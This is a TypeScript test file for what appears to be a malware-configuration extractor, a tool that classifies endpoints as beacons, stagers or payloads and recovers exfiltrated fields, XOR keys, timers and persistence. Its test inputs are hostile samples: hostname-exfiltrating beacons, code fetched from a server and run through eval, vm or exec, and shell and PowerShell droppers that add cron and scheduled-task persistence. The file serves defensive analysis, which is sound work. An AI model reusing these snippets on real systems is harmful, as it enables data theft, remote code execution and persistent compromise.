import { expect, it, describe as suite } from 'vitest';
import { describe } from '../describe.ts';
import { materialOf } from '../testing.ts';

const config = (text: string, kind = 'javascript') => describe(materialOf(text, kind)).config;
const sent = (text: string, kind = 'javascript') =>
  config(text, kind).endpoints.map(({ method, url, role }) => `${method} ${url} ${role}`);
const fields = (text: string, kind = 'javascript') =>
  config(text, kind).exfiltration.map((one) => `${one.encoding}: ${one.fields.join(' ')}`);

suite('addresses', () => {
  it('stand below the server that a client was made for', () => {
    expect(
      sent('const api = axios.create({ baseURL: "https://a.example/v2/" }); api.get("hello");').concat(
        sent('const g = got.extend({ prefixUrl: "https://a.example/v2" }); g.get("hello");'),
      ),
    ).toEqual(['GET https://a.example/v2/hello unknown', 'GET https://a.example/v2/hello unknown']);
  });

  it('may be objects', () => {
    expect(sent('fetch(new URL("/c", "https://a.example/b"))')).toEqual(['GET https://a.example/c unknown']);
    expect(sent('const u = new URL("https://a.example/c"); fetch(u.toString()); fetch(u.href);')).toEqual([
      'GET https://a.example/c unknown',
    ]);
  });

  it('have no port where it is the usual one', () => {
    expect(sent('require("https").get({ hostname: "a.example", port: 443, path: "/x" })')).toEqual([
      'GET https://a.example/x unknown',
    ]);
  });
});

suite('queries', () => {
  const OS = 'const os = require("os"); const info = { machine: os.hostname(), os: os.type() };';

  it('are read from whatever makes them', () => {
    for (const code of [
      'fetch(`https://a.example/p?${new URLSearchParams(info)}`)',
      'fetch("https://a.example/p?" + require("querystring").stringify(info))',
      'axios.get("https://a.example/p", { params: info })',
      'axios.get("https://a.example/p?machine=" + os.hostname() + "&os=" + os.type())',
      'const u = new URL("https://a.example/p"); u.searchParams.set("machine", os.hostname()); u.searchParams.append("os", os.type()); fetch(u)',
    ])
      expect(fields(OS + code), code).toEqual(['query: machine os']);
  });

  it('leave the address where they differ from machine to machine', () => {
    expect(sent(`${OS}fetch("https://a.example/p?h=" + os.hostname())`)).toEqual(['GET https://a.example/p beacon']);
    expect(sent('fetch("https://a.example/p?flag=6")')).toEqual(['GET https://a.example/p?flag=6 unknown']);
  });
});

suite('bodies', () => {
  it('are read through encoders, XOR and texts around them', () => {
    const code = `const os = require("os"); const http = require("http"); function x(s, k) { return [...s].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ k.charCodeAt(i % k.length))).join(""); }
      const rec = {}; rec.host = os.hostname(); rec["plat"] = os.platform();
      const r = http.request(new URL("http://192.0.2.31:4891/in"), { method: "POST" }); r.end("d=" + encodeURIComponent(Buffer.from(x(JSON.stringify(rec), "fern9")).toString("base64")));`;
    expect(fields(code)).toEqual(['base64+xor+json: host plat']);
    expect(config(code).keys.map(({ value }) => value)).toEqual(['fern9']);
  });

  it('are not the options of something else', () => {
    expect(
      fields(
        'const fs = require("fs"), os = require("os"); for (const e of fs.readdirSync(os.homedir(), { withFileTypes: true })) axios.post("https://a.example/u", { path: os.homedir() + "/" + e.name })',
      ),
    ).toEqual(['json: path']);
  });

  it('may come in headers', () => {
    expect(
      fields('const os = require("os"); fetch("https://a.example/u", { headers: { "x-box": os.hostname() } })'),
    ).toEqual(['header: x-box']);
  });

  it('are known where folding left them as text', () => {
    expect(
      fields(
        'fetch("https://a.example/u", { method: "POST", body: "{\\"host\\":\\"DESKTOP-DECOY7\\",\\"kind\\":\\"start\\"}" })',
      ),
    ).toEqual(['json: host kind']);
    const field = config('fetch("https://a.example/u", { method: "POST", body: "{\\"host\\":\\"DESKTOP-DECOY7\\"}" })')
      .tracking?.fields[0];
    expect(field).toMatchObject({ name: 'host', source: 'os.hostname()', meaning: 'host' });
  });
});

suite('answers', () => {
  it('are told apart where one helper asks several servers', () => {
    const code =
      'const get = (u) => new Promise((ok) => https.get(u, (r) => { let s = ""; r.on("data", (c) => (s += c)); r.on("end", () => ok(s)); })); (async () => { eval(await get("https://a.example/code")); console.log(await get("https://b.example/plain")); })();';
    expect(sent(`const https = require("https"); ${code}`)).toEqual([
      'GET https://a.example/code stager',
      'GET https://b.example/plain unknown',
    ]);
  });

  it('are code through import, vm and a module of its own', () => {
    for (const sink of [
      'await import("data:text/javascript," + t)',
      'require("vm").runInThisContext(t)',
      'new module.constructor()._compile(t, "")',
      'new (Function.constructor)("require", t)(require)',
      '(0, eval)(t)',
    ])
      expect(sent(`const t = await (await fetch("https://a.example/n")).text(); ${sink};`), sink).toEqual([
        'GET https://a.example/n stager',
      ]);
  });
});

suite('rhythm', () => {
  const every = (code: string) => config(`const os = require("os"); ${code}`).tracking?.transmissions[0]?.every;
  const beat =
    'function beat() { fetch("https://a.example/b", { method: "POST", body: JSON.stringify({ h: os.hostname() }) });';

  it('is that of the timer that reaches the request', () => {
    expect(every(`${beat} } setInterval(() => beat(), 1000 * 60)`)).toBe(60_000);
    expect(every(`${beat} setTimeout(beat, 45000 + Math.floor(Math.random() * 900)); } beat();`)).toBe(45_000);
    expect(every(`${beat} } setTimeout(beat, 5000)`)).toBeNull();
    expect(every(`${beat} } beat(); setInterval(() => console.log(1), 9000)`)).toBeNull();
  });
});

suite('Python', () => {
  it('asks over connections of its own, and over and over', () => {
    const code =
      'import http.client, json, socket, time\ndef post(p, o):\n    c = http.client.HTTPConnection("192.0.2.45", 5000)\n    c.request("POST", p, json.dumps(o), {"X-Key": "plum-3"})\n    return c.getresponse().read()\ndef loop():\n    while True:\n        r = post("/v1/beat", {"h": socket.gethostname()})\n        exec(json.loads(r)["code"])\n        time.sleep(45)\nloop()\n';
    const made = config(code, 'python');
    expect(made.endpoints.map(({ url, role }) => `${url} ${role}`)).toEqual(['http://192.0.2.45:5000/v1/beat stager']);
    expect(made.gates.map(({ name, value }) => `${name} ${value}`)).toEqual(['X-Key plum-3']);
    expect(made.tracking?.transmissions[0]?.every).toBe(45_000);
  });
});

suite('scripts', () => {
  it('fetch, run and stay', () => {
    const made = config(
      'U="http://192.0.2.56:3000"\ncurl -s -L -o "$HOME/.q/env.npl" "$U/task/linux?token=7f9"\nnohup bash "$HOME/.q/env.npl" &\n(crontab -l; echo "@reboot node $HOME/.q/m.js") | crontab -\n',
      'shell',
    );
    expect(made.endpoints.map(({ url, role }) => `${url} ${role}`)).toEqual([
      'http://192.0.2.56:3000/task/linux?token=7f9 stager',
    ]);
    expect(made.droppedFiles.map(({ path }) => path)).toEqual(['$HOME/.q/env.npl']);
    expect(made.persistence.map(({ kind }) => kind)).toContain('cron');
  });

  it('of PowerShell, too', () => {
    const made = config(
      'Invoke-WebRequest -Uri "http://192.0.2.55:3000/n.zip" -OutFile "$env:USERPROFILE\\n.zip"\nschtasks /create /sc onlogon /tn "NodeUpdateQ" /tr "node x.js" /f\n',
      'powershell',
    );
    expect(made.endpoints.map(({ url, role }) => `${url} ${role}`)).toEqual(['http://192.0.2.55:3000/n.zip payload']);
    expect(made.persistence.map(({ kind, place }) => `${kind} ${place}`)).toEqual(['scheduled task NodeUpdateQ']);
  });
});
